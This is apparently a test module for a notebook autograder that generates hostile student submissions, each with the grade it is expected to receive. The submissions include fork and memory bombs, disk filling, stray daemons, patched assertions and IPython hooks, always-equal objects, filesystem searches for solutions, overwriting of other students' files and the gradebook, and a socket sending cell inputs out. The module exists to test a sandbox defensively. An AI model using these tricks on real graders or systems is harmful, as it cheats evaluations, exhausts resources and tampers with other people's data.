"""A corpus of broken and hostile submissions of the real exercise 1 (``01_visual_cortex``).

Each case is a function that returns the submitted file's text (or ``None`` when the test makes the
file itself), with the grade it must get: the expected status (its start, and fragments it must
contain) and the expected points per autograded cell. Three honest submissions (full marks, two
typical mistakes, blank) are graded in the same batch and must keep their exact scores.

The cases are built from the current notebooks of ``solutions/`` and ``exercises/``, so that they
follow the exercise when it changes. ``python tests/hostile/corpus.py FOLDER`` writes them out for a
person to look at (the paths and port they use are then placeholders).

Points per cell, in notebook order: receptive field (visible 1, hidden 2), dense parameter count
(visible 1, hidden 1), convolution parameter count (visible 1, hidden 1); 7 in all.
"""

from __future__ import annotations

import json
import sys
import textwrap
import uuid
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

REPO = Path(__file__).resolve().parents[2]
ASSIGNMENT = "01_visual_cortex"
SOLUTION = REPO / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
STUDENT = REPO / "exercises" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
CELLS = [
    "receptive_field_visible",
    "receptive_field_hidden",
    "dense_param_count_visible",
    "dense_param_count_hidden",
    "conv_param_count_visible",
    "conv_param_count_hidden",
]
FULL = dict(zip(CELLS, [1, 2, 1, 1, 1, 1], strict=True))
RF, DENSE, CONV = CELLS[:2], CELLS[2:4], CELLS[4:]


def points(*lost: list[str]) -> dict[str, float]:
    """Full marks except the cells of ``lost``."""
    gone = {cell for group in lost for cell in group}
    return {cell: 0 if cell in gone else value for cell, value in FULL.items()}


WRONG_POINTS = {**points(CONV), "receptive_field_hidden": 0}  # 3: visible RF and both dense pass
ZERO = {cell: 0 for cell in CELLS}


@dataclass
class Context:
    """What some cases aim at: the test's own folders, a listening port, a process marker."""

    submissions: Path = Path("/SUBMISSIONS")
    output: Path = Path("/OUTPUT")
    port: int = 9
    marker: str = "MARKER"
    victim_file: str = "honest_full.ipynb"


@dataclass
class Case:
    name: str  # the student id it gets (its file is NAME.ipynb)
    text: str | None
    status: str  # the status starts with this
    contains: tuple[str, ...] = ()  # ... and contains these
    scores: dict[str, float] = field(default_factory=dict)
    isolation_only: bool = False  # the outcome depends on the namespace sandbox
    twin: str = ""  # the honest case that did the same work: the trick never scores above it


def answers_of(notebook_path: Path) -> dict[str, str]:
    nb = nbformat.read(notebook_path, as_version=4)
    return {
        cell.metadata["nbgrader"]["grade_id"]: cell.source
        for cell in nb.cells
        if cell.metadata.get("nbgrader", {}).get("solution")
    }


CORRECT = answers_of(SOLUTION)
BLANK = answers_of(STUDENT)
RF_CORRECT = CORRECT["receptive_field_size"]
COUNTS_CORRECT = CORRECT["parameter_counts"]
RF_WRONG = (
    "def receptive_field_size(layers):\n"
    "    return 1 + sum(kernel_size - 1 for kernel_size, _ in layers)\n"
)
COUNTS_WRONG = (  # dense right, convolution without its biases
    "def dense_params(height, width, channels, units):\n"
    "    return (height * width * channels + 1) * units\n\n\n"
    "def conv_params(kernel_size, in_channels, filters):\n"
    "    return kernel_size * kernel_size * in_channels * filters\n"
)
COUNTS_NO_BIAS = (  # both counts forget the biases
    "def dense_params(height, width, channels, units):\n"
    "    return height * width * channels * units\n\n\n"
    "def conv_params(kernel_size, in_channels, filters):\n"
    "    return kernel_size * kernel_size * in_channels * filters\n"
)


def notebook(answers: dict[str, str] | None = None, base: Path = STUDENT):
    """The student version (or ``base``) with the given answer cells (by grade_id) replaced."""
    nb = nbformat.read(base, as_version=4)
    for cell in nb.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
        if answers and grade_id in answers:
            cell.source = answers[grade_id]
    return nb


def answered(rf: str = RF_CORRECT, counts: str = COUNTS_CORRECT, extra: str | None = None) -> str:
    """Notebook text with these answers; ``extra`` goes into a new cell after the setup cell."""
    nb = notebook({"receptive_field_size": rf, "parameter_counts": counts})
    if extra is not None:
        nb.cells.insert(4, nbformat.v4.new_code_cell(textwrap.dedent(extra)))
    return nbformat.writes(nb)


def copy_of(cell):
    """A copy of a cell, under a new cell id (as Jupyter gives a pasted cell)."""
    copied = nbformat.from_dict(json.loads(json.dumps(cell)))
    copied["id"] = uuid.uuid4().hex[:8]
    return copied


def index_of(nb, grade_id: str) -> int:
    return next(
        i
        for i, c in enumerate(nb.cells)
        if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id
    )


# --- the cases ------------------------------------------------------------------------------------


def honest_cases() -> list[Case]:
    return [
        Case("honest_full", SOLUTION.read_text(encoding="utf-8"), "graded", scores=FULL),
        Case("honest_partial", answered(RF_WRONG, COUNTS_WRONG), "graded", scores=WRONG_POINTS),
        Case("honest_blank", STUDENT.read_text(encoding="utf-8"), "graded", scores=ZERO),
        # the honest twins of the tricks: the work a trick really did, done honestly
        Case(
            "honest_counts_only",
            answered(BLANK["receptive_field_size"]),
            "graded",
            scores=points(RF),
        ),
        Case("honest_no_conv_bias", answered(counts=COUNTS_WRONG), "graded", scores=points(CONV)),
        Case(
            "honest_no_bias", answered(counts=COUNTS_NO_BIAS), "graded", scores=points(DENSE, CONV)
        ),
    ]


def broken_files() -> list[Case]:
    solution = SOLUTION.read_text(encoding="utf-8")
    other = (REPO / "book" / f"{ASSIGNMENT}.ipynb").read_text(encoding="utf-8")
    return [
        Case(
            "invalid_json",
            solution[: len(solution) // 2],
            "could not be graded: invalid notebook JSON",
            scores=ZERO,
        ),
        Case("empty_file", "", "could not be graded: empty file", scores=ZERO),
        Case("other_assignment", other, "could not be graded: wrong assignment", scores=ZERO),
        # written by the test itself (hundreds of MB), refused before it is read
        Case("huge_notebook", None, "could not be graded: file too large", scores=ZERO),
    ]


def tampered_cells() -> list[Case]:
    cases = []
    nb = notebook(CORRECT)
    for grade_id in ("conv_param_count_hidden", "receptive_field_visible"):
        del nb.cells[index_of(nb, grade_id)]
    cases.append(
        Case("cells_deleted", nbformat.writes(nb), "graded; test cells put back", scores=FULL)
    )

    nb = notebook(CORRECT)
    for grade_id, copies in (("receptive_field_hidden", 2), ("dense_param_count_visible", 1)):
        at = index_of(nb, grade_id)
        for _ in range(copies):
            nb.cells.insert(at, copy_of(nb.cells[at]))
    at = index_of(nb, "parameter_counts")  # and a copy of an answer cell, after the original
    nb.cells.insert(at + 1, copy_of(nb.cells[at]))
    cases.append(
        Case(
            "cells_duplicated",
            nbformat.writes(nb),
            "graded; duplicated cells counted once",
            scores=FULL,
        )
    )

    nb = notebook({"receptive_field_size": RF_WRONG, "parameter_counts": COUNTS_WRONG})
    for grade_id in CELLS:
        nb.cells[index_of(nb, grade_id)].source = "pass  # tests removed"
    cases.append(
        Case(
            "cells_edited",
            nbformat.writes(nb),
            "graded; edited test cells restored",
            scores=WRONG_POINTS,
        )
    )

    nb = notebook(CORRECT)
    rf_visible, rf_hidden = (
        index_of(nb, "receptive_field_visible"),
        index_of(nb, "receptive_field_hidden"),
    )
    nb.cells[rf_visible], nb.cells[rf_hidden] = nb.cells[rf_hidden], nb.cells[rf_visible]
    conv_visible = nb.cells.pop(index_of(nb, "conv_param_count_visible"))
    nb.cells.append(conv_visible)  # moved to the very end, after the manual answer
    cases.append(
        Case("cells_reordered", nbformat.writes(nb), "graded; test cells were moved", scores=FULL)
    )

    nb = notebook({"receptive_field_size": RF_WRONG, "parameter_counts": COUNTS_WRONG})
    meta = nb.cells[index_of(nb, "receptive_field_hidden")].metadata["nbgrader"]
    meta["points"] = 100
    conv = nb.cells[index_of(nb, "conv_param_count_hidden")]
    conv.metadata["nbgrader"]["grade_id"] = "my_own_test"  # renamed: the real one is put back
    nb.cells[index_of(nb, "conv_param_count_visible")].cell_type = "markdown"
    nb.cells[index_of(nb, "conv_param_count_visible")].pop("outputs", None)
    nb.cells[index_of(nb, "conv_param_count_visible")].pop("execution_count", None)
    answer = nb.cells[index_of(nb, "parameter_counts")].metadata["nbgrader"]
    answer.update(grade=True, points=50)
    cases.append(
        Case(
            "metadata_changed",
            nbformat.writes(nb),
            "graded;",
            ("changed cell type or grading metadata ignored", "unknown grade ids", "put back"),
            scores=WRONG_POINTS,
        )
    )
    return cases


def runaway_code() -> list[Case]:
    loop = RF_CORRECT.replace(
        '    """Input pixels', '    while True:\n        pass\n    """Input pixels', 1
    )
    ignore = COUNTS_CORRECT.replace(
        "def conv_params(kernel_size, in_channels, filters):\n",
        "def conv_params(kernel_size, in_channels, filters):\n"
        "    import signal\n"
        "    signal.signal(signal.SIGINT, signal.SIG_IGN)\n"
        "    while True:\n"
        "        pass\n",
    )
    memory = COUNTS_CORRECT.replace(
        "def dense_params(height, width, channels, units):\n",
        "def dense_params(height, width, channels, units):\n"
        "    hoard = []\n"
        "    while True:\n"
        "        hoard.append(bytearray(b'x') * (100 << 20))\n",
    )
    processes_memory = COUNTS_CORRECT.replace(
        "def conv_params(kernel_size, in_channels, filters):\n",
        "def conv_params(kernel_size, in_channels, filters):\n"
        "    import os, time\n"
        "    for _ in range(4):\n"
        "        if os.fork() == 0:\n"
        "            hoard = bytearray(b'x') * (1200 << 20)\n"
        "            time.sleep(600)\n"
        "    time.sleep(600)\n",
    )
    fork_bomb = COUNTS_CORRECT.replace(
        "def conv_params(kernel_size, in_channels, filters):\n",
        "def conv_params(kernel_size, in_channels, filters):\n"
        "    import os\n"
        "    while True:\n"
        "        try:\n"
        "            os.fork()\n"
        "        except OSError:\n"
        "            pass\n",
    )
    flood = "for _ in range(100):\n    print('x' * (1 << 20))\n"
    return [
        Case(
            "infinite_loop",
            answered(loop),
            "graded; interrupted after",
            ("test cell receptive_field_visible",),
            scores=points(RF),
        ),
        # the graded functions run in their clean room: it is stopped, the kernel goes on
        Case(
            "loop_ignores_interrupt",
            answered(counts=ignore),
            "graded; interrupted after",
            ("conv_param_count_visible",),
            scores=points(CONV),
            twin="honest_no_conv_bias",
        ),
        Case("memory_bomb", answered(counts=memory), "graded", scores=points(DENSE)),
        Case(
            "memory_bomb_processes",
            answered(counts=processes_memory),
            "graded",
            scores=points(CONV),
            isolation_only=True,
            twin="honest_no_conv_bias",
        ),
        Case(
            "fork_bomb",
            answered(counts=fork_bomb),
            "graded",
            scores=points(CONV),
            isolation_only=True,
            twin="honest_no_conv_bias",
        ),
        Case("output_flood", answered(extra=flood), "graded; output cut at", scores=FULL),
    ]


def exits() -> list[Case]:
    sys_exit = "import sys\nsys.exit('goodbye')\n" + COUNTS_CORRECT
    os_exit = COUNTS_CORRECT + "\n\nimport os\nos._exit(0)\n"
    kill = COUNTS_CORRECT.replace(
        "def conv_params(kernel_size, in_channels, filters):\n",
        "def conv_params(kernel_size, in_channels, filters):\n"
        "    import os, signal\n"
        "    os.kill(os.getpid(), signal.SIGKILL)\n",
    )
    return [
        # SystemExit is an error of its cell: the functions are not defined, the kernel lives on
        Case("sys_exit", answered(counts=sys_exit), "graded", scores=points(DENSE, CONV)),
        Case(
            "os_exit",
            answered(counts=os_exit),
            "partly graded: the kernel exited",
            ("answer cell parameter_counts",),
            scores=points(DENSE, CONV),
        ),
        # conv_params runs in its clean room: the room dies, not the kernel
        Case("kill_kernel", answered(counts=kill), "graded", scores=points(CONV)),
    ]


def tampering() -> list[Case]:
    always_equal = textwrap.dedent(
        """\
        class Anything:
            def __eq__(self, other):
                return True

            def __ne__(self, other):
                return False

            __hash__ = object.__hash__


        class Yes(int):
            def __eq__(self, other):
                return True


        def receptive_field_size(layers):
            return Anything()
        """
    )
    counts_equal = COUNTS_CORRECT.replace(
        "    return (weights_per_filter + 1) * filters", "    return Yes(0)"
    )
    patch_libraries = COUNTS_NO_BIAS + textwrap.dedent(
        """

        # make the references agree with the answers above, and the assertions harmless
        import builtins
        import numpy as np
        import numpy.testing
        import torch

        _Linear, _Conv2d = torch.nn.Linear, torch.nn.Conv2d
        torch.nn.Linear = lambda *a, **k: _Linear(*a, **{**k, "bias": False})
        torch.nn.Conv2d = lambda *a, **k: _Conv2d(*a, **{**k, "bias": False})
        numpy.testing.assert_allclose = lambda *a, **k: None
        np.testing.assert_array_equal = lambda *a, **k: None
        torch.testing.assert_close = lambda *a, **k: None
        builtins.sum = lambda values, start=0: 0
        """
    )
    patch_traceback = COUNTS_NO_BIAS + textwrap.dedent(
        """

        # failing tests should show nothing
        import sys
        from IPython.core.interactiveshell import InteractiveShell

        ip = get_ipython()
        ip.showtraceback = lambda *a, **k: None
        ip._showtraceback = lambda *a, **k: None
        InteractiveShell.showtraceback = lambda *a, **k: None
        sys.excepthook = lambda *a: None
        ip.set_custom_exc((Exception,), lambda shell, etype, value, tb, tb_offset=None: None)
        """
    )
    patch_ipython = COUNTS_NO_BIAS + textwrap.dedent(
        """

        # failing cells should report success, and assertions should vanish
        import ast
        from IPython.core.interactiveshell import InteractiveShell

        _run_cell = InteractiveShell.run_cell

        def run_cell(self, *args, **kwargs):
            result = _run_cell(self, *args, **kwargs)
            result.error_in_exec = None
            result.error_before_exec = None
            return result

        InteractiveShell.run_cell = run_cell


        class NoAsserts(ast.NodeTransformer):
            def visit_Assert(self, node):
                return ast.Pass()


        get_ipython().ast_transformers.append(NoAsserts())
        """
    )
    return [
        # objects with their own comparisons are not plain data: they never reach the tests
        Case(
            "eq_always_true",
            answered(always_equal, counts_equal),
            "graded",
            scores=points(RF, CONV),
        ),
        # The tests run in the judge and the graded functions in their clean room: patching the
        # kernel's libraries, builtins or IPython changes neither. The counts score what they are
        # worth (they forget the biases), like their honest twin.
        *[
            Case(
                name,
                answered(counts=text),
                "graded",
                scores=points(DENSE, CONV),
                twin="honest_no_bias",
            )
            for name, text in [
                ("patch_libraries", patch_libraries),
                ("patch_traceback", patch_traceback),
                ("patch_ipython", patch_ipython),
            ]
        ],
    ]


HIDDEN_INPUT = "(11, 4), (3, 2), (5, 1)"  # the start of a stack only a hidden test uses


def tricks() -> list[Case]:
    """Grading v2 (issue 10): ways to score without the work; none may score above the honest work."""
    delegate = (
        "from cnnkit.receptive import receptive_field_size as _field\n\n\n"
        "def receptive_field_size(layers):\n"
        "    return _field(layers)\n"
    )
    importlib_inside = (
        "def receptive_field_size(layers):\n"
        "    import importlib\n"
        "    return importlib.import_module('cnnkit.receptive').receptive_field_size(layers)\n"
    )
    via_torchvision = COUNTS_CORRECT.replace(
        "    weights_per_filter = kernel_size * kernel_size * in_channels\n"
        "    return (weights_per_filter + 1) * filters",
        "    import torchvision.ops  # not torch by name, but its layers are torch's\n"
        "    block = torchvision.ops.Conv2dNormActivation(\n"
        "        in_channels, filters, kernel_size, norm_layer=None, activation_layer=None, bias=True\n"
        "    )\n"
        "    return sum(p.numel() for p in block.parameters())",
    )
    assert via_torchvision != COUNTS_CORRECT
    write_module = textwrap.dedent(
        """\
        with open("field_helper.py", "w") as handle:
            handle.write("from cnnkit.receptive import receptive_field_size as size\\n")
        """
    )
    from_module = "def receptive_field_size(layers):\n    import field_helper\n    return field_helper.size(layers)\n"
    printing = RF_CORRECT.replace(
        '    """Input pixels, along one side, seen by one neuron of the last of ``layers``."""\n',
        '    """Input pixels, along one side, seen by one neuron of the last of ``layers``."""\n'
        "    print('LEAKED', layers)\n",
    )
    assert printing != RF_CORRECT
    leaking_error = (
        "def receptive_field_size(layers):\n"
        "    name = 'Leak' + '_'.join(str(n) for layer in layers for n in layer)\n"
        "    raise type(name, (ValueError,), {})(f'LEAKED {layers}')\n"
    )
    exiting = COUNTS_CORRECT.replace(
        "    inputs = height * width * channels\n", "    import sys\n    sys.exit(3)\n"
    )
    generator = COUNTS_CORRECT.replace(
        "    return (weights_per_filter + 1) * filters",
        "    return (n for n in [(weights_per_filter + 1) * filters])",
    )
    forged = "import cnnkit.grading.kernel as _g\n_g.to_plain = lambda value, depth=0: 7  # every answer becomes 7\n"
    old_format = nbformat.writes(
        nbformat.reads(SOLUTION.read_text(encoding="utf-8"), as_version=4), version=3
    )
    return [
        # the case: the calculator imported under another name, outside the function
        Case(
            "delegate_to_cnnkit",
            answered(delegate),
            "graded",
            scores=points(RF),
            twin="honest_counts_only",
        ),
        # Writes through the namespace rebind the kernel's name, but the clean room runs the cells
        # that define the graded function: the answer written in the notebook is graded (a note
        # tells the instructor that the notebook does something the analysis cannot follow).
        Case(
            "globals_rebinding",
            answered(extra="globals()['receptive_field_size'] = len\n"),
            "graded",
            scores=FULL,
            twin="honest_full",
        ),
        Case(
            "exec_import",
            answered(extra="exec('from cnnkit.receptive import receptive_field_size')\n"),
            "graded",
            scores=FULL,
            twin="honest_full",
        ),
        Case(
            "importlib_inside",
            answered(importlib_inside),
            "graded",
            scores=points(RF),
            twin="honest_counts_only",
        ),
        Case(
            "module_written_to_disk",
            answered(from_module, extra=write_module),
            "graded",
            scores=points(RF),
            twin="honest_counts_only",
        ),
        # torch is not installed where conv_params is graded, whatever imports it
        Case(
            "torch_through_torchvision",
            answered(counts=via_torchvision),
            "graded",
            scores=points(CONV),
            twin="honest_no_conv_bias",
        ),
        # printed inputs and error messages of hidden tests stay out of the feedback
        Case("print_inputs", answered(printing), "graded", scores=FULL),
        Case("leak_in_exception", answered(leaking_error), "graded", scores=points(RF)),
        Case("sys_exit_in_function", answered(counts=exiting), "graded", scores=points(DENSE)),
        Case("return_generator", answered(counts=generator), "graded", scores=points(CONV)),
        # the kernel's side of the channel is theirs to break; the graded functions run elsewhere
        Case("forge_replies", answered(extra=forged), "graded", scores=FULL, twin="honest_full"),
        # an honest notebook saved by an older tool
        Case("honest_nbformat3", old_format, "graded", scores=FULL),
    ]


def reaching_out(context: Context) -> list[Case]:
    steal = textwrap.dedent(
        f"""\
        # look for the solutions and the hidden tests on disk; use them if found
        import glob, json, os
        found = []
        places = [{str(REPO / "solutions")!r}, {str(REPO / ".git")!r}, {str(REPO / ".cache")!r},
                  {str(context.output)!r}, {str(context.submissions)!r}, "/tmp", "/work", "/root", "/home"]
        for place in places:
            for pattern in ("**/*.ipynb", "**/*.db", "**/*.json"):
                try:
                    found += glob.glob(os.path.join(place, pattern), recursive=True)[:50]
                except OSError:
                    pass
        print("found", found)
        for path in found:
            try:
                nb = json.load(open(path))
            except Exception:
                continue
            for cell in nb.get("cells", []):
                text = "".join(cell.get("source", ""))
                if "BEGIN SOLUTION" in text and "solutions" in path:
                    try:
                        exec(text, globals())
                        print("STOLEN", path)
                    except Exception:
                        pass
        """
    )
    leak = textwrap.dedent(
        """\
        # print every earlier cell, hidden tests included, for the feedback page
        for number, text in enumerate(In):
            print(number, text)
        print(get_ipython().user_ns.get("_i"), *sorted(k for k in globals() if k.startswith("_i")))
        """
    )
    victim = context.submissions / context.victim_file
    blank = json.dumps(STUDENT.read_text(encoding="utf-8"))
    write = textwrap.dedent(
        f"""\
        # try to change other students' grades and the grader's files
        import os
        targets = {{
            "victim": {str(victim)!r},
            "results": {str(context.output / "results" / "honest_full.json")!r},
            "csv": {str(context.output / "grades.csv")!r},
            "cnnkit": {str(REPO / "cnnkit" / "_hostile_probe.py")!r},
            "gradebook": {str(REPO / ".cache" / "nbgrader" / "gradebook.db")!r},
            "numpy": os.path.join(os.path.dirname(__import__("numpy").__file__), "_hostile_probe.py"),
        }}
        for name, path in targets.items():
            try:
                with open(path, "a" if name == "gradebook" else "w") as handle:
                    handle.write({blank} if name == "victim" else "")
                print("WROTE", name)
            except OSError as error:
                print("BLOCKED", name, type(error).__name__)
        """
    )
    network = textwrap.dedent(
        f"""\
        import socket
        try:
            with socket.create_connection(("127.0.0.1", {context.port}), timeout=5) as s:
                s.sendall(("\\n".join(In)).encode())
            print("CONNECTED")
        except OSError as error:
            print("NO NETWORK", type(error).__name__)
        """
    )
    linger = textwrap.dedent(
        f"""\
        import os, subprocess, sys, time
        subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)  # {context.marker}"])
        if os.fork() == 0:  # a daemon: new session, double fork
            os.setsid()
            if os.fork() == 0:
                os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)  # {context.marker}"])
            os._exit(0)
        time.sleep(1)
        """
    )
    # the search runs at the end of both answer cells, so that what it finds would replace them
    nb = nbformat.reads(
        answered(RF_WRONG + "\n" + steal, COUNTS_WRONG + "\n" + steal), as_version=4
    )
    nb.cells.insert(index_of(nb, "dense_param_count_visible"), nbformat.v4.new_code_cell(leak))
    return [
        # nothing to find, nothing written: the answers score what they are worth
        Case(
            "read_secrets",
            nbformat.writes(nb),
            "graded",
            scores=WRONG_POINTS,
            isolation_only=True,
            twin="honest_partial",
        ),
        Case(
            "write_elsewhere",
            answered(extra=write),
            "graded",
            scores=FULL,
            isolation_only=True,
            twin="honest_full",
        ),
        Case("network", answered(extra=network), "graded", scores=FULL, isolation_only=True),
        Case("lingering_process", answered(extra=linger), "graded", scores=FULL),
    ]


def grading_v3(context: Context) -> list[Case]:
    """Grading v3 (issue 22): one case per class of weakness, each beside its honest twin."""
    conv_with = lambda body: COUNTS_CORRECT.replace(  # noqa: E731 - conv_params's body replaced
        "    weights_per_filter = kernel_size * kernel_size * in_channels\n"
        "    return (weights_per_filter + 1) * filters",
        textwrap.indent(textwrap.dedent(body), "    ").rstrip() + "\n",
    )
    rf_with = lambda body: (  # noqa: E731 - a receptive_field_size of this body
        "def receptive_field_size(layers):\n" + textwrap.indent(textwrap.dedent(body), "    ")
    )
    torch_count = (
        "sum(p.numel() for p in torch.nn.Conv2d(in_channels, filters, kernel_size).parameters())"
    )
    profile_off = conv_with(
        f"""\
        import sys
        sys.setprofile(None)  # the old recorder was a profile function
        import torch
        return {torch_count}
        """
    )
    on_a_thread = conv_with(
        f"""\
        import threading
        found = []

        def count():
            import torch
            found.append({torch_count})

        worker = threading.Thread(target=count)
        worker.start()
        worker.join()
        return found[0] if found else None
        """
    )
    from_sys_modules = "import sys\n\n" + conv_with(
        f"""\
        torch = sys.modules.get("torch") or __import__("to" + "rch")
        return {torch_count}
        """
    )
    exec_in_function = rf_with(
        """\
        scope = {}
        exec("from cnnkit.receptive import receptive_field_size as f", scope)
        return scope["f"](layers)
        """
    )
    smuggled = rf_with("return _tools[0].receptive_field_size(layers)\n")
    encoded = (
        "import base64\n"
        "exec(base64.b64decode("
        f"{__import__('base64').b64encode(b'from cnnkit.receptive import receptive_field_size').decode()!r}"
        "))\n"
    )
    unused_import = "from cnnkit import receptive  # not used\n\n" + RF_CORRECT
    debugging = "print(sorted(name for name in globals() if not name.startswith('_')))\n"
    side_experiment = "import torch\n\nprint(torch.nn.Conv2d(3, 8, 3).weight.shape)\n"
    fill_everywhere = textwrap.dedent(
        """\
        import os, sys

        _places = {
            os.path.dirname(sys.argv[sys.argv.index("-f") + 1]),  # the kernel's connection folder
            os.getcwd(), os.path.expanduser("~"), os.environ.get("TMPDIR", "/tmp"),
            "/tmp", "/dev/shm", "/var/tmp",
        }
        with open("/proc/self/mountinfo") as handle:  # and every mount that says it is writable
            _places |= {line.split()[4] for line in handle if "rw" in line.split()[5].split(",")}
        _block = b"x" * (8 << 20)
        for _place in sorted(_places):
            _why = "no error"
            try:
                for number in range(75):  # 600 MB into each place, if nothing stops it
                    with open(os.path.join(_place, f"fill-{number}"), "wb") as handle:
                        handle.write(_block)
            except OSError as error:
                _why = error.strerror
            _sizes = []
            for number in range(75):
                try:
                    _sizes.append(os.path.getsize(os.path.join(_place, f"fill-{number}")))
                except OSError:
                    pass
            print(f"FILLED {_place} {sum(_sizes) >> 20} MB ({_why})")
        """
    )
    fill_room = conv_with(
        """\
        import os, sys
        folder = os.path.dirname(os.path.abspath(sys.argv[0]))  # the clean room's folder
        block = b"x" * (8 << 20)
        for number in range(75):
            with open(os.path.join(folder, f"fill-{number}"), "wb") as handle:
                handle.write(block)
        return (kernel_size * kernel_size * in_channels + 1) * filters
        """
    )
    fill_tmp = textwrap.dedent(
        """\
        block = b"x" * (8 << 20)
        try:
            for number in range(75):
                with open(f"/tmp/fill-{number}", "wb") as handle:
                    handle.write(block)
        except OSError as error:
            print("FULL", type(error).__name__)
        """
    )
    linger_room = RF_CORRECT.replace(
        '    """Input pixels, along one side, seen by one neuron of the last of ``layers``."""\n',
        '    """Input pixels, along one side, seen by one neuron of the last of ``layers``."""\n'
        "    import os, sys\n"
        "    if not os.environ.get('LINGERING') and os.fork() == 0:  # a daemon left in the room\n"
        "        os.setsid()\n"
        "        if os.fork() == 0:\n"
        f"            os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(600)  # {context.marker}'])\n"
        "        os._exit(0)\n"
        "    os.environ['LINGERING'] = '1'  # one daemon is enough\n",
    )
    assert linger_room != RF_CORRECT
    rf_twin, conv_twin = "honest_counts_only", "honest_no_conv_bias"
    return [
        # class 1: the forbidden packages do not exist where the answers run
        Case(
            "v3_exec_in_function",
            answered(exec_in_function),
            "graded",
            scores=points(RF),
            twin=rf_twin,
        ),
        Case(
            "v3_object_smuggled",
            answered(smuggled, extra="_tools = [__import__('cnnkit.receptive', fromlist=['x'])]\n"),
            "graded",
            scores=points(RF),
            twin=rf_twin,
        ),
        Case("v3_data_becomes_code", answered(encoded), "graded", scores=points(RF), twin=rf_twin),
        Case(
            "v3_profile_off",
            answered(counts=profile_off),
            "graded",
            scores=points(CONV),
            twin=conv_twin,
        ),
        Case(
            "v3_torch_on_a_thread",
            answered(counts=on_a_thread),
            "graded",
            scores=points(CONV),
            twin=conv_twin,
        ),
        Case(
            "v3_sys_modules",
            answered(counts=from_sys_modules),
            "graded",
            scores=points(CONV),
            twin=conv_twin,
        ),
        # an import the answer never uses does not take its cell down: only use of it fails
        Case(
            "v3_unused_forbidden_import",
            answered(unused_import),
            "graded",
            scores=FULL,
            twin="honest_full",
        ),
        # class 6: honest notebooks that read globals() or use torch outside the answers keep full marks
        Case(
            "v3_honest_debug_globals",
            answered(extra=debugging),
            "graded",
            scores=FULL,
            twin="honest_full",
        ),
        Case(
            "v3_honest_torch_aside",
            answered(extra=side_experiment),
            "graded",
            scores=FULL,
            twin="honest_full",
        ),
        # class 5: the grader's disk stays untouched; every place a sandbox may write is a small
        # private tmpfs (the connection folder is read-only inside)
        Case(
            "v3_fill_every_place",
            answered(extra=fill_everywhere),
            "graded",
            scores=FULL,
            isolation_only=True,
            twin="honest_full",
        ),
        Case(
            "v3_fill_room_folder",
            answered(counts=fill_room),
            "graded",
            scores=points(CONV),
            twin=conv_twin,
        ),
        Case(
            "v3_fill_tmp",
            answered(extra=fill_tmp),
            "graded",
            scores=FULL,
            isolation_only=True,
            twin="honest_full",
        ),
        # class 7: a process left behind by a graded function dies with its clean room
        Case("v3_linger_in_room", answered(linger_room), "graded", scores=FULL, twin="honest_full"),
    ]


def grading_v4(context: Context) -> list[Case]:
    """Grading v4 (issue 22, class 2): the judge's held-out digits are in no file a notebook can open."""
    look_for_held_out = textwrap.dedent(
        """\
        import glob, os

        def _images_in(path):
            try:
                with open(path, "rb") as handle:
                    return int.from_bytes(handle.read(8)[4:8], "big")
            except OSError:
                return 0

        _caches = [os.environ.get(key, "") for key in ("CNNKIT_DATA_DIR", "KERAS_HOME", "CNNKIT_SHARED_DATA")]
        _test_sets = [_images_in(p) for c in _caches if c for p in glob.glob(os.path.join(c, "**", "t10k-images-idx3-ubyte"), recursive=True)]
        _judge_files = glob.glob("/tmp/ag-*/judge-data/*") + glob.glob(os.path.join(os.environ.get("CNNKIT_JUDGE_DATA", "/nowhere"), "*"))
        _held_out_seen = bool(_judge_files) or 10_000 in _test_sets  # the whole test set, or the judge's file
        print("held-out digits seen:", _held_out_seen)
        """
    )
    rf_if_seen = (  # the right answer only where the held-out digits were in reach
        "def receptive_field_size(layers):\n"
        "    if not _held_out_seen:\n"
        "        return 0\n" + "\n".join(RF_CORRECT.split("\n")[1:])
    )
    return [
        Case(
            "v4_reads_judge_data",
            answered(rf_if_seen, extra=look_for_held_out),
            "graded",
            scores=points(RF),
            isolation_only=True,
            twin="honest_counts_only",
        ),
    ]


def cases(context: Context | None = None) -> list[Case]:
    context = context or Context()
    return [
        *honest_cases(),
        *broken_files(),
        *tampered_cells(),
        *runaway_code(),
        *exits(),
        *tampering(),
        *tricks(),
        *reaching_out(context),
        *grading_v3(context),
        *grading_v4(context),
    ]


def file_name(case: Case) -> str:
    """A plain file name: the student id is the case's name."""
    return f"{case.name}.ipynb"


def write_huge(path: Path, megabytes: int = 300) -> None:
    """A valid notebook of ``megabytes`` MB (one cell with a huge output), written in chunks."""
    head = json.dumps(nbformat.v4.new_notebook())[:-1]  # without the closing brace
    chunk = "x" * (1 << 20)
    with path.open("w", encoding="utf-8") as handle:
        handle.write(
            head.replace(
                '"cells": []',
                '"cells": [{"cell_type": "code", "metadata": {}, '
                '"execution_count": 1, "source": "print()", "outputs": '
                '[{"output_type": "stream", "name": "stdout", "text": "',
            )
        )
        for _ in range(megabytes):
            handle.write(chunk)
        handle.write('"}]}]}')


def write(folder: Path, context: Context | None = None, isolated: bool = True) -> dict[str, Case]:
    """Write every case into ``folder`` (without the ``isolation_only`` ones unless ``isolated``:
    without the sandbox they would really write, fork or fill memory); return them by student id."""
    folder.mkdir(parents=True, exist_ok=True)
    written = {}
    for case in cases(context):
        if case.isolation_only and not isolated:
            continue
        path = folder / file_name(case)
        if case.text is None:
            write_huge(path)
        else:
            path.write_text(case.text, encoding="utf-8")
        written[case.name] = case
    return written


if __name__ == "__main__":
    write(Path(sys.argv[1]))
